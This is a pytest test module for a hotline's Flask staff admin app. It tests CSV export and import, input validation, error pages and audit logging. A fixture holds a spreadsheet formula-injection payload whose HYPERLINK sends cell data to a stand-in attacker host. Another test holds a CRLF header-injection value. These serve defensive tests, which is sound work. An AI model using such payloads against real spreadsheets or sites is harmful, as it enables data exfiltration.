"""The staff app at its edges: exports that cannot run, imports that say what they did, lists instead
of codes, input that never makes a 500, every error an admin page, and an audit log that tells."""

from __future__ import annotations

import csv
import html
import io
from datetime import UTC, date, datetime, timedelta
from typing import Any

import pytest
from flask import Flask
from flask.testing import FlaskClient, FlaskCliRunner
from sqlalchemy import Engine, func, select
from sqlalchemy.orm import Session
from werkzeug.datastructures import FileStorage
from werkzeug.test import encode_multipart

from hotline.models import AuditEntry, Referral, TryItSession

from .conftest import ADMIN, STAFF, Phone
from .forms import form_fields
from .test_admin import csrf_token, post, sign_in

FORMULAS = {
    "organization": '=HYPERLINK("http://evil.example/?d="&A2,"Click")',
    "service_name": "@SUM(1+1)",
    "alert": "-2+3",
    "hotline_phone": "+1 617 555 0150",
}


def entry_id(engine: Engine, external_id: str) -> int:
    with Session(engine) as session:
        found = session.scalars(select(Referral).where(Referral.external_id == external_id)).one()
        return found.id


def audited(engine: Engine, action: str) -> list[AuditEntry]:
    with Session(engine) as session:
        return list(session.scalars(select(AuditEntry).where(AuditEntry.action == action)))


def upload(client: FlaskClient, text: str | bytes, name: str = "directory.csv") -> Any:
    """Upload a file as a browser does. The body is encoded here: Werkzeug's test client leaves the
    temporary file it spools a large body to open."""
    raw = text.encode() if isinstance(text, str) else text
    token = csrf_token(client, "/admin/referrals/import")
    boundary, body = encode_multipart(
        {"csrf_token": token, "file": FileStorage(io.BytesIO(raw), name)}
    )
    return client.post("/admin/referrals/import", data=body,
                       content_type=f"multipart/form-data; boundary={boundary}")  # fmt: skip


def many_rows(client: FlaskClient, count: int, prefix: str, **cells: str) -> str:
    """A CSV of `count` new entries made from the first exported one (with `cells` changed)."""
    export = client.get("/admin/referrals/export").get_data(as_text=True).lstrip("\ufeff")
    first = next(csv.DictReader(io.StringIO(export)))
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(first))
    writer.writeheader()
    for n in range(count):
        writer.writerow(first | {"external_id": f"{prefix}-{n}",
                                 "organization": f"Demo {prefix} {n}"} | cells)  # fmt: skip
    return out.getvalue()


def confirm(client: FlaskClient, preview: Any) -> Any:
    fields = form_fields(preview.get_data(as_text=True), "confirm-import")
    assert fields.get("pending"), preview.get_data(as_text=True)[:3000]
    return client.post("/admin/referrals/import", data=fields)


def save_entry(client: FlaskClient, engine: Engine, external_id: str, **changes: str) -> Any:
    """Open an entry's form as staff, change some fields, and save it as it stands."""
    page = f"/admin/referrals/{entry_id(engine, external_id)}"
    fields = form_fields(client.get(page).get_data(as_text=True))
    fields.update({name: [value] for name, value in changes.items()})
    return post(client, page, page, **fields)


def new_entry_form(client: FlaskClient) -> dict[str, list[str]]:
    return form_fields(client.get("/admin/referrals/new").get_data(as_text=True))


# Exports that cannot run -------------------------------------------------------------------------


def test_formula_cells_export_as_text_and_import_back_unchanged(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    assert save_entry(client, engine, "demo-berkshire", **FORMULAS).status_code == 302

    export = client.get("/admin/referrals/export").get_data(as_text=True)
    (row,) = [
        row for row in csv.DictReader(io.StringIO(export)) if row["external_id"] == "demo-berkshire"
    ]
    for name, value in FORMULAS.items():
        assert row[name] == "'" + value  # a spreadsheet shows it as text and never runs it
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(export))
                   for cell in line)  # fmt: skip

    preview = upload(client, export)
    assert preview.status_code == 200
    confirm(client, preview)
    assert "0 added, 0 changed, 16 unchanged" in client.get("/admin/referrals").get_data(
        as_text=True
    )
    with Session(engine) as session:
        kept = session.get(Referral, entry_id(engine, "demo-berkshire"))
        assert kept is not None
        assert {name: getattr(kept, name) for name in FORMULAS} == FORMULAS


# Import that says what it does --------------------------------------------------------------------


def test_an_import_is_confirmed_by_id_and_audits_each_entry_and_field(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    export = client.get("/admin/referrals/export").get_data(as_text=True)
    changed = export.replace("413-555-0109", "413-555-0190")
    preview = upload(client, changed, "berkshire-fix.csv")
    page = preview.get_data(as_text=True)
    assert "berkshire-fix.csv: 16 row(s), all good." in page
    # The file stays on the server, not in the page: only what it changes is shown.
    assert "external_id,organization" not in page and page.count("413-555-0190") == 1
    response = confirm(client, preview)
    assert response.status_code == 302

    (change,) = [found for found in audited(engine, "referral_changed")]
    assert change.actor == STAFF and change.target == "demo-berkshire"
    assert change.details == {
        "source": "berkshire-fix.csv",
        "phone": ["413-555-0109", "413-555-0190"],
    }
    (summary,) = audited(engine, "import")
    assert summary.details == {"added": 0, "changed": 1, "unchanged": 15}
    # The same id cannot import twice, nor be confirmed by someone else.
    assert confirm(client, preview).status_code == 400


def test_a_preview_belongs_to_its_importer(app: Flask, accounts: None, engine: Engine) -> None:
    staff, admin = app.test_client(), app.test_client()
    sign_in(staff, STAFF)
    sign_in(admin, ADMIN)
    export = staff.get("/admin/referrals/export").get_data(as_text=True)
    preview = upload(staff, export.replace("413-555-0109", "413-555-0190"))
    pending = form_fields(preview.get_data(as_text=True), "confirm-import")["pending"]
    refused = admin.post("/admin/referrals/import",
                         data={"pending": pending, "csrf_token": csrf_token(admin, "/admin/referrals/import")})  # fmt: skip
    assert refused.status_code == 400
    assert "no longer kept" in refused.get_data(as_text=True)
    assert audited(engine, "referral_changed") == []


def test_a_file_over_the_limit_gets_the_admins_413_page(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, STAFF)
    page = client.get("/admin/referrals/import").get_data(as_text=True)
    assert "at most 2 MB" in page
    too_big = upload(client, b"external_id\n" + b"x" * (2 * 1024 * 1024))
    assert too_big.status_code == 413
    text = too_big.get_data(as_text=True)
    assert "larger than 2 MB" in text and "Hotline admin" in text
    assert "Content-Security-Policy" in too_big.headers


def test_a_request_past_the_whole_limit_gets_the_same_page(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, STAFF)
    far_too_big = upload(client, b"x" * (4 * 1024 * 1024))
    assert far_too_big.status_code == 413
    assert "larger than 2 MB" in far_too_big.get_data(as_text=True)


def test_unknown_codes_in_a_file_are_refused_with_the_allowed_values_named(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, STAFF)
    export = client.get("/admin/referrals/export").get_data(as_text=True)
    preview = upload(client, export.replace("removal_defense", "deportation_defense", 1))
    assert preview.status_code == 400
    text = preview.get_data(as_text=True)
    assert "unknown deportation_defense" in text and "removal_defense, bond_representation" in text


# Forms for people, not codes ----------------------------------------------------------------------


def test_an_entry_is_created_from_lists_and_reaches_a_vietnamese_texter(
    client: FlaskClient, accounts: None, engine: Engine, phone: Phone
) -> None:
    sign_in(client, STAFF)
    page = client.get("/admin/referrals/new").get_data(as_text=True)
    for shown in ("Removal defense for detained people", "Hampden County", "Vietnamese · Tiếng Việt",
                  "Eastern (Boston, New York)", "Sliding scale"):  # fmt: skip
        assert shown in page
    fields = new_entry_form(client)
    fields.update(external_id=["springfield-vn"], organization=["Demo Springfield Vietnamese Legal"],
                  phone=["413-555-0131"], services=["removal_defense", "bond_representation"],
                  counties=["MA:Hampden"], languages=["vi", "en"], hours=["24/7"])  # fmt: skip
    response = post(client, "/admin/referrals/new", "/admin/referrals/new", **fields)
    assert response.status_code == 302, response.get_data(as_text=True)[:3000]
    with Session(engine) as session:
        made = session.scalars(
            select(Referral).where(Referral.external_id == "springfield-vn")
        ).one()
        assert made.services == ["removal_defense", "bond_representation"]
        assert made.languages == ["vi", "en"] and made.counties == ["MA:Hampden"]
        assert made.verified_by == STAFF and made.last_verified == date.today()
    phone.text("LANG")
    phone.text("6")  # Tiếng Việt
    (reply,) = phone.text("01103")
    assert "Demo Springfield Vietnamese Legal 413-555-0131" in reply.splitlines()[1]


def test_a_code_no_list_offers_is_refused_by_name(client: FlaskClient, accounts: None) -> None:
    sign_in(client, STAFF)
    fields = new_entry_form(client)
    fields.update(external_id=["x1"], organization=["Demo X"], phone=["413-555-0132"],
                  languages=["vn"], timezone=["Mars/Olympus"])  # fmt: skip
    response = post(client, "/admin/referrals/new", "/admin/referrals/new", **fields)
    assert response.status_code == 400
    text = response.get_data(as_text=True)
    assert "languages: unknown vn" in text and "vi," in text
    assert "not a time zone" in text


def test_the_verifier_is_whoever_is_signed_in_and_never_typed(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    page = f"/admin/referrals/{entry_id(engine, 'demo-stale-project')}"
    fields = form_fields(client.get(page).get_data(as_text=True))
    assert "verified_by" not in fields and "last_verified" not in fields
    fields.update(verified_by=["the director"], last_verified=["2099-01-01"])
    assert post(client, page, page, **fields).status_code == 302
    with Session(engine) as session:
        kept = session.get(Referral, entry_id(engine, "demo-stale-project"))
        assert kept is not None and kept.last_verified == date(2025, 6, 1)
        assert kept.verified_by == "Demo data"
    fields["verified_now"] = ["yes"]
    assert post(client, page, page, **fields).status_code == 302
    with Session(engine) as session:
        kept = session.get(Referral, entry_id(engine, "demo-stale-project"))
        assert kept is not None and kept.verified_by == STAFF and kept.last_verified == date.today()


def test_a_verification_date_in_a_file_cannot_be_in_the_future(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, STAFF)
    export = client.get("/admin/referrals/export").get_data(as_text=True)
    tomorrow = (date.today() + timedelta(days=1)).isoformat()
    preview = upload(client, export.replace("2026-11-01", tomorrow, 1))
    assert preview.status_code == 400
    assert "last_verified cannot be in the future" in preview.get_data(as_text=True)


def test_the_directorys_county_filter_follows_the_rule_texts_follow(
    client: FlaskClient, accounts: None, runner: FlaskCliRunner
) -> None:
    sign_in(client, STAFF)
    page = client.get("/admin/referrals?county=Berkshire").get_data(as_text=True)
    # The county's own entry, the statewide one, and the national line: what a texter there gets.
    for name in ("Demo Berkshire", "Demo Statewide", "Demo National"):
        assert name in page
    assert "Demo Cape" not in page
    listed = runner.invoke(args=["referrals", "list", "--county", "Berkshire"]).output
    for external_id in ("demo-berkshire", "demo-statewide-detained", "demo-national-info"):
        assert external_id in listed
    assert "demo-cape-islands" not in listed


# No 500 from input -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("name", "value", "problem"),
    [
        ("organization", "D" * 201, "organization is longer than 200 characters"),
        ("priority", str(2**31), "priority must be from -1000 to 1000"),
        ("priority", "ten", "priority must be a whole number"),
        ("alert", "closed\x00today", "alert holds a control character"),
        ("phone", "call\r\nnow", "phone holds a control character"),
    ],
)
def test_input_the_database_cannot_hold_gets_a_clear_error(
    client: FlaskClient, accounts: None, engine: Engine, name: str, value: str, problem: str
) -> None:
    sign_in(client, STAFF)
    response = save_entry(client, engine, "demo-berkshire", **{name: value})
    assert response.status_code == 400
    assert problem in response.get_data(as_text=True)


@pytest.mark.parametrize(
    "path",
    ["/admin/referrals/99999999999999999999", "/admin/referrals/2147483648", "/admin/nowhere"],
)
def test_unknown_addresses_are_the_admins_404_page(
    client: FlaskClient, accounts: None, path: str
) -> None:
    sign_in(client, STAFF)
    response = client.get(path)
    assert response.status_code == 404
    assert "Not found" in response.get_data(as_text=True)
    assert "frame-ancestors 'none'" in response.headers["Content-Security-Policy"]
    assert response.headers["X-Frame-Options"] == "DENY"


def test_a_wrong_method_is_the_admins_405_page(client: FlaskClient, accounts: None) -> None:
    sign_in(client, STAFF)
    response = client.get("/admin/logout")
    assert response.status_code == 405
    assert "Not allowed here" in response.get_data(as_text=True)
    assert "Content-Security-Policy" in response.headers


def test_a_nul_in_the_sign_in_email_or_a_line_break_in_next_is_harmless(
    client: FlaskClient, accounts: None
) -> None:
    # An address with a NUL or a zero-width space in it is refused plainly, never a 500.
    assert sign_in(client, "staff\x00@example.org").status_code == 401
    assert sign_in(client, "staff\u200b@example.org").status_code == 401
    token = csrf_token(client, "/admin/login")
    response = client.post("/admin/login?next=/admin/users%0d%0aSet-Cookie:x=1",
                           data={"email": STAFF, "password": "a long and unusual passphrase",
                                 "csrf_token": token})  # fmt: skip
    assert response.status_code == 302
    assert response.headers["Location"] == "/admin/"


# A fuller audit log -------------------------------------------------------------------------------


def test_sign_ins_throttles_refused_forms_and_403s_are_audited_with_the_address(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    environ = {"REMOTE_ADDR": "198.51.100.7"}
    client.environ_base.update(environ)
    sign_in(client, STAFF)
    (login,) = audited(engine, "login")
    assert login.details["address"] == "198.51.100.7"
    assert client.get("/admin/users").status_code == 403
    (forbidden,) = audited(engine, "forbidden")
    assert forbidden.actor == STAFF and forbidden.target == "/admin/users"
    refused = client.post("/admin/referrals/new", data={"organization": "Demo"})
    assert refused.status_code == 400 and "Content-Security-Policy" in refused.headers
    assert audited(engine, "csrf_refused")[0].details["address"] == "198.51.100.7"

    other = client.application.test_client()
    other.environ_base.update(environ)
    for n in range(7):
        sign_in(other, ADMIN, f"wrong passphrase {n}")
    throttled = audited(engine, "login_throttled")
    assert throttled and throttled[0].details["email"] == ADMIN
    assert all(entry.details["address"] == "198.51.100.7" for entry in throttled)


# Try-it on the server -----------------------------------------------------------------------------


def test_try_it_keeps_its_transcript_on_the_server_capped_and_the_cookie_small(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    for n in range(20):
        post(client, "/admin/try", "/admin/try", text="1" if n % 2 else "0", language="vi")
    cookie = client.get_cookie("hotline_session")
    assert cookie is not None and len(cookie.value) < 600
    page = client.get("/admin/try").get_data(as_text=True)
    assert page.count('class="sent"') == 12
    assert "Tiếng Việt" in page
    with Session(engine) as session:
        (kept,) = session.scalars(select(TryItSession)).all()
        assert len(kept.transcript) == 12 and kept.state is not None
    post(client, "/admin/logout", "/admin/")
    with Session(engine) as session:
        assert session.scalars(select(TryItSession)).all() == []


def test_every_variant_of_an_email_counts_against_the_same_accounts_lock(
    client: FlaskClient, accounts: None
) -> None:
    # Full-width letters, capitals, controls and zero-width characters: one account, one lock.
    variants = ["ＳＴＡＦＦ@example.org", "Staff@Example.org", "staff\x02@example.org",
                "st\u200baff@example.org", " staff@example.org\t"]  # fmt: skip
    for variant in variants:
        assert sign_in(client, variant, "not the password at all").status_code == 401
    # Locked: even the right password, with the plain address or a variant, is refused now.
    assert sign_in(client, STAFF).status_code == 429
    assert sign_in(client, "staff\x02@example.org").status_code == 429


def test_a_thousand_anonymous_posts_add_a_few_audit_rows_with_their_count(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    client.environ_base.update({"REMOTE_ADDR": "203.0.113.9"})
    with Session(engine) as session:
        before = session.scalar(select(func.count()).select_from(AuditEntry)) or 0
    for n in range(1000):  # no token: refused before any password is checked
        assert client.post("/admin/login", data={"email": f"x{n}@example.org"}).status_code == 400
    for n in range(30):  # with a token, wrong passwords: refused, then throttled
        sign_in(client, STAFF, f"wrong passphrase {n}")
    with Session(engine) as session:
        added = session.scalars(select(AuditEntry).where(AuditEntry.id > before)).all()
    # One row per action and minute (a minute may turn during the run): a few, not 1,030.
    assert len(added) <= 6, [(entry.action, entry.details) for entry in added]
    counted = {entry.action: 0 for entry in added}
    for entry in added:
        counted[entry.action] += entry.details["count"]
        assert entry.details["address"] == "203.0.113.9"
    assert counted["csrf_refused"] == 1000
    assert counted["login_failed"] + counted["login_throttled"] == 30


def test_reading_usage_and_exporting_the_directory_are_audited(
    client: FlaskClient, runner: FlaskCliRunner, accounts: None, engine: Engine, phone: Phone
) -> None:
    phone.text("hello")  # a week with a text in it, to release
    sign_in(client, ADMIN)
    next_week = (datetime.now(UTC).date() + timedelta(days=7)).isoformat()
    assert runner.invoke(args=["stats", "release", "--as-of", next_week]).exit_code == 0
    assert client.get("/admin/stats").status_code == 200
    assert client.get("/admin/stats.csv").status_code == 200
    assert client.get("/admin/referrals/export").status_code == 200
    for action in ("stats_viewed", "stats_downloaded", "directory_exported"):
        (entry,) = audited(engine, action)
        assert entry.actor == ADMIN, action


def test_pages_name_languages_and_topics_never_by_their_codes(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, ADMIN)
    start = client.get("/admin/").get_data(as_text=True)
    assert "Cape Verdean Kriolu · Kriolu kabuverdianu" in start
    assert "<th>kea</th>" not in start and "<th>zh_Hant</th>" not in start
    assert "Bond, what family can do" in start and "<th>bond</th>" not in start
    reviews = client.get("/admin/content").get_data(as_text=True)
    assert "Release day &amp; detainers 4/7" in reviews and ">release_day/4<" not in reviews
    form = client.get("/admin/referrals/new").get_data(as_text=True)
    assert 'lang="zh-Hant"' in form and 'lang="zh_Hant"' not in form


def test_staff_are_asked_to_verify_entries_by_the_rule_families_see(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    today = datetime.now(UTC).date()
    with Session(engine) as session, session.begin():
        entries = session.scalars(select(Referral).order_by(Referral.id)).all()
        entries[0].last_verified = today - timedelta(days=100)  # fine for families: not listed
        entries[1].last_verified = today - timedelta(days=400)  # "not recently verified"
        first, second = entries[0].organization, entries[1].organization
    sign_in(client, STAFF)
    start = html.unescape(client.get("/admin/").get_data(as_text=True))
    assert "Not verified for 365 days" in start
    flagged = start.split("Not verified for 365 days")[1].split("</ul>")[0]
    assert second in flagged and first not in flagged


# Fields that refuse what breaks them ---------------------------------------------------------------


def test_a_giant_cell_a_direction_mark_and_a_nul_in_a_file_name_get_a_clear_answer(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    export = client.get("/admin/referrals/export").get_data(as_text=True)
    header, first, *_ = export.splitlines()
    cells = next(csv.reader([first]))
    names = next(csv.reader([header]))
    # A cell over csv's own limit: 400 with the line, never a 500.
    giant = dict(zip(names, cells, strict=True)) | {"service_name": "x" * 140_000}
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=names).writerows([dict(zip(names, names, strict=True)), giant])
    response = upload(client, out.getvalue())
    assert response.status_code == 400
    assert "line 2 has a cell longer than 131,072 characters" in response.get_data(as_text=True)
    # A right-to-left override would show 617-555-0100 reversed in a text: refused by name.
    tricked = dict(zip(names, cells, strict=True)) | {"organization": "Demo \u202eProject"}
    out = io.StringIO()
    csv.DictWriter(out, fieldnames=names).writerows([dict(zip(names, names, strict=True)), tricked])
    response = upload(client, out.getvalue())
    assert response.status_code == 400
    assert "organization holds a control character" in response.get_data(as_text=True)
    # A NUL in the file's name (PostgreSQL refuses it in any text): dropped, the preview works.
    assert upload(client, export, name="dir\x00ectory.csv").status_code == 200


def test_an_audit_filter_with_a_nul_is_harmless(client: FlaskClient, accounts: None) -> None:
    sign_in(client, ADMIN)
    for name in ("action", "actor", "target"):
        assert client.get(f"/admin/audit?{name}=lo%00gin").status_code == 200


def test_a_review_cannot_predate_the_content_and_a_public_number_has_no_extension(
    client: FlaskClient, runner: FlaskCliRunner, accounts: None
) -> None:
    old = runner.invoke(args=["content", "review", "bond/1", "en", "--reviewer", "Demo Attorney",
                              "--role", "attorney", "--date", "0001-01-01"])  # fmt: skip
    assert old.exit_code != 0 and "before the content's first version" in old.output
    extension = runner.invoke(
        args=["settings", "set", "public_number", "+1 617 555 0100 ext. 1234"]
    )
    assert extension.exit_code != 0 and "without an extension" in extension.output
    assert (
        runner.invoke(args=["settings", "set", "contact_phone", "617 555 0100 x12"]).exit_code == 0
    )


def test_a_large_import_on_sqlite_is_written_in_turns_and_lands_whole(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    from hotline.admin.directory import IMPORT_TURN_ROWS

    sign_in(client, STAFF)
    count = IMPORT_TURN_ROWS * 2 + 17  # three turns on SQLite, one transaction on PostgreSQL
    preview = upload(client, many_rows(client, count, "bulk"))
    assert preview.status_code == 200
    assert confirm(client, preview).status_code == 302
    page = client.get("/admin/referrals").get_data(as_text=True)
    assert f"{count} added, 0 changed, 0 unchanged" in page
    (summary,) = audited(engine, "import")
    assert summary.details["added"] == count
    assert len(audited(engine, "referral_created")) >= count


def test_a_file_of_bad_rows_lists_the_first_hundred_and_counts_them_all(
    client: FlaskClient, accounts: None
) -> None:
    sign_in(client, STAFF)
    response = upload(client, many_rows(client, 150, "bad", phone="not a phone"))
    page = response.get_data(as_text=True)
    assert response.status_code == 400 and "150 bad row(s)" in page
    problems = page.split('class="problems"')[1]
    assert problems.count("<li>") == 100 and "The first 100 are listed" in page


def test_the_import_preview_says_what_will_be_added_changed_field_by_field_and_retired(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    sign_in(client, STAFF)
    export = client.get("/admin/referrals/export").get_data(as_text=True).lstrip("\ufeff")
    rows = list(csv.DictReader(io.StringIO(export)))
    rows[0]["phone"] = "617-555-0177"
    rows[1]["status"] = "retired"
    rows.append(rows[2] | {"external_id": "demo-new", "organization": "Demo New Project"})
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]))
    writer.writeheader()
    writer.writerows(rows)
    preview = upload(client, out.getvalue())
    page = html.unescape(preview.get_data(as_text=True))
    assert preview.status_code == 200
    assert "will add 1, change 1 and retire 1 entries; 14 stay as they are" in page
    assert "Demo New Project" in page
    changed = page.split("Changed (1)")[1].split("</table>")[0]
    assert rows[0]["organization"] in changed and "617-555-0177" in changed and "phone" in changed
    retired = page.split("Retired (1)")[1].split("</table>")[0]
    assert rows[1]["organization"] in retired and "retired" in retired
    # What the preview said is what the import does.
    confirm(client, preview)
    assert "1 added, 2 changed, 14 unchanged" in client.get("/admin/referrals").get_data(
        as_text=True
    )


def test_a_file_of_78494_entries_that_previews_clean_imports_clean(
    client: FlaskClient, accounts: None, engine: Engine
) -> None:
    # Short rows, so 78,494 fit in the 2 MB an import takes: more entries than PostgreSQL takes
    # parameters in one statement (65,535), which the preview and the import once put in one IN.
    count = 78_494
    text = "external_id,organization,phone\n" + "".join(
        f"{n:x},Demo {n:x},4135550100\n" for n in range(count)
    )
    assert len(text.encode()) < 2 * 1024 * 1024
    sign_in(client, STAFF)
    preview = upload(client, text)
    assert preview.status_code == 200, preview.get_data(as_text=True)[:2000]
    assert "Importing it will add 78494" in preview.get_data(as_text=True)
    assert confirm(client, preview).status_code == 302
    with Session(engine) as session:
        assert (session.scalar(select(func.count()).select_from(Referral)) or 0) >= count
    # Imported again: everything is there, nothing changes.
    again = upload(client, text)
    assert "78494 stay as they are" in again.get_data(as_text=True)


def test_a_spanish_speaking_worker_reads_what_is_wrong_with_a_file_in_spanish(
    client: FlaskClient, accounts: None
) -> None:
    client.environ_base["HTTP_ACCEPT_LANGUAGE"] = "es"
    sign_in(client, STAFF)
    bad = "external_id,organization,phone,hours\nx1,Demo Uno,not a phone,Mon-Fri 17:00-9:00\n"
    page = html.unescape(upload(client, bad).get_data(as_text=True))
    assert "fila 2 (x1): phone 'not a phone' no es un número de teléfono" in page
    assert "hours: '17:00-9:00': el cierre debe ser después de la apertura" in page
    page = html.unescape(upload(client, "organization\nDemo\n").get_data(as_text=True))
    assert "al encabezado le faltan la(s) columna(s) external_id, phone" in page
